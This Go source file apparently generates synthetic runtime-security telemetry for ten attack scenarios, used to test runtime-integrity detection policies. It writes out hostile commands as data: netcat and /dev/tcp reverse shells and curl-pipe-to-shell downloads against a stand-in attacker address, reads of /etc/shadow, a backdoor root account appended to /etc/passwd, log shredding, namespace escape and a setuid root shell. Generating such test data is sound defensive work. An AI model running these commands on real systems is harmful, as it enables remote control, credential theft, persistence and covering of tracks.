package synth

import "path"

// attack is a short scenario of the kind runtime-integrity policies exist to
// catch. Each plays its records in order, entities before the events that
// use them, and leaves no transient process behind.
type attack struct {
	name string
	play func(g *gen)
}

// AttackNames lists the scenarios Generate plays, in the order it plays them.
func AttackNames() []string {
	names := make([]string, len(attackScenarios))
	for i, a := range attackScenarios {
		names[i] = a.name
	}
	return names
}

var attacker = peer{IPv4(203, 0, 113, 7), 4444, protoTCP}

var attackScenarios = []attack{
	{"webshell", func(g *gen) {
		// A web server worker starts a shell that looks around.
		web := g.entryOf("web")
		sh := g.spawn(web, "/bin/sh", "-c id; uname -a; cat /etc/passwd", &profile{})
		g.fileFlowOp(sh, "/etc/passwd", opOpen|opRead|opClose, oRDONLY|oCLOEXEC)
		id := g.spawn(sh, "/usr/bin/id", "", &profile{})
		g.exit(id)
		g.exit(sh)
	}},
	{"container-entry-shell", func(g *gen) {
		node := g.entryOf("frontend")
		sh := g.spawn(node, "/bin/sh", "-c env", &profile{})
		g.exit(sh)
	}},
	{"read-shadow", func(g *gen) {
		bash := g.hostShell()
		cat := g.spawn(bash, "/usr/bin/cat", "/etc/shadow", &profile{})
		g.fileFlowOp(cat, "/etc/shadow", opOpen|opRead|opClose, oRDONLY|oCLOEXEC)
		g.exit(cat)
	}},
	{"write-etc-bin", func(g *gen) {
		api := g.entryOf("api")
		sh := g.spawn(api, "/bin/sh", "-c echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd", &profile{})
		g.fileFlowOp(sh, "/etc/passwd", opOpen|opWrite|opClose, oWRONLY|oAPPEND|oCLOEXEC)
		cp := g.spawn(sh, "/usr/bin/cp", "/tmp/x /bin/ls", &profile{})
		g.fileFlowOp(cp, "/tmp/x", opOpen|opRead|opClose, oRDONLY|oCLOEXEC)
		g.fileFlowOp(cp, "/bin/ls", opOpen|opWrite|opClose, oWRONLY|oCREAT|oTRUNC|oCLOEXEC)
		g.exit(cp)
		g.exit(sh)
	}},
	{"reverse-shell", func(g *gen) {
		api := g.entryOf("api")
		nc := g.spawn(api, "/usr/bin/nc", "-e /bin/sh 203.0.113.7 4444", &profile{})
		g.netFlowOp(nc, peer{api.cont.ip, 41234, protoTCP}, attacker.ip, attacker.port, opConnect|opRead|opWrite|opClose)
		g.exit(nc)
		bash := g.spawn(api, "/bin/bash", "-c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", &profile{})
		g.netFlowOp(bash, peer{api.cont.ip, 41236, protoTCP}, attacker.ip, attacker.port, opConnect|opRead|opWrite|opClose)
		g.exit(bash)
	}},
	{"downloader", func(g *gen) {
		web := g.entryOf("web")
		sh := g.spawn(web, "/bin/sh", "-c curl -s http://203.0.113.7/x.sh | sh", &profile{})
		curl := g.spawn(sh, "/usr/bin/curl", "-s http://203.0.113.7/x.sh -o /tmp/x.sh", &profile{})
		g.netFlowOp(curl, peer{web.cont.ip, 41240, protoTCP}, attacker.ip, 80, opConnect|opRead|opWrite|opClose)
		g.fileFlowOp(curl, "/tmp/x.sh", opOpen|opWrite|opClose, oWRONLY|oCREAT|oTRUNC|oCLOEXEC)
		g.exit(curl)
		wget := g.spawn(sh, "/usr/bin/wget", "-q http://203.0.113.7/miner -O /tmp/miner", &profile{})
		g.netFlowOp(wget, peer{web.cont.ip, 41242, protoTCP}, attacker.ip, 80, opConnect|opRead|opWrite|opClose)
		g.exit(wget)
		g.exit(sh)
	}},
	{"setns", func(g *gen) {
		bash := g.hostShell()
		ns := g.spawn(bash, "/usr/bin/nsenter", "--target 1 --mount --uts --ipc --net --pid /bin/bash", &profile{})
		g.emitProcessEvent(ns, opSetns, nil, 0)
		g.exit(ns)
	}},
	{"package-manager", func(g *gen) {
		cache := g.entryOf("cache")
		sh := g.spawn(cache, "/bin/sh", "-c apt-get install -y nmap", &profile{})
		apt := g.spawn(sh, "/usr/bin/apt-get", "install -y nmap", &profile{})
		g.netFlowOp(apt, peer{cache.cont.ip, 41250, protoTCP}, IPv4(151, 101, 2, 132), 80, opConnect|opRead|opWrite|opClose)
		g.fileFlowOp(apt, "/var/lib/dpkg/status", opOpen|opRead|opWrite|opClose, oWRONLY|oCREAT|oTRUNC|oCLOEXEC)
		g.exit(apt)
		g.exit(sh)
	}},
	{"log-tamper", func(g *gen) {
		bash := g.hostShell()
		tr := g.spawn(bash, "/usr/bin/truncate", "-s 0 /var/log/auth.log", &profile{})
		g.fileFlowOp(tr, "/var/log/auth.log", opOpen|opTruncate|opClose, oWRONLY|oTRUNC|oCLOEXEC)
		g.exit(tr)
		rm := g.spawn(bash, "/usr/bin/rm", "-f /var/log/syslog.1", &profile{})
		g.fileEventOp(rm, opUnlink, g.file(rm, "/var/log/syslog.1", resFile), nil)
		g.exit(rm)
		sh := g.spawn(bash, "/usr/bin/shred", "-u /home/alice/.bash_history", &profile{})
		g.fileEventOp(sh, opUnlink, g.file(sh, "/home/alice/.bash_history", resFile), nil)
		g.exit(sh)
	}},
	{"setuid", func(g *gen) {
		bash := g.hostShell()
		chmod := g.spawn(bash, "/usr/bin/chmod", "u+s /tmp/rootbash", &profile{})
		g.exit(chmod)
		rb := g.spawn(bash, "/tmp/rootbash", "-p", &profile{})
		g.emitProcessEvent(rb, opSetuid, []string{"0"}, 0)
		g.fileFlowOp(rb, "/etc/shadow", opOpen|opRead|opClose, oRDONLY|oCLOEXEC)
		g.exit(rb)
	}},
}

// entryOf returns the application process (the master below the
// container's init) of the named container.
func (g *gen) entryOf(name string) *proc {
	for _, c := range g.conts {
		if c.c.Name == name || c.pod != nil && c.pod.Labels["app"] == name {
			return c.master
		}
	}
	return g.host
}

// hostShell is an administrator's interactive shell on the host, logged in
// over ssh by the first scenario that needs it: everyday traffic has no
// interactive session (the real traces have none), so the login belongs to
// the attacks.
func (g *gen) hostShell() *proc {
	if g.shell != nil {
		return g.shell
	}
	sshd := g.host
	for _, d := range g.daemons {
		if d.cont == nil && path.Base(d.p.Exe) == "sshd" {
			sshd = d
			break
		}
	}
	session := g.spawn(sshd, "/usr/sbin/sshd", "-D -R", &profile{})
	bash := g.clone(session, nil, &profile{})
	bash.p.UID, bash.p.GID, bash.p.UserName, bash.p.GroupName, bash.p.TTY, bash.p.Cwd = 1000, 1000, "alice", "alice", true, "/home/alice"
	g.exec(bash, "/bin/bash", "")
	g.shell = bash
	return bash
}

func (g *gen) emitProcessEvent(p *proc, op int32, args []string, ret int32) {
	g.emit(recordPE(p, g.tick(), op, args, ret))
}
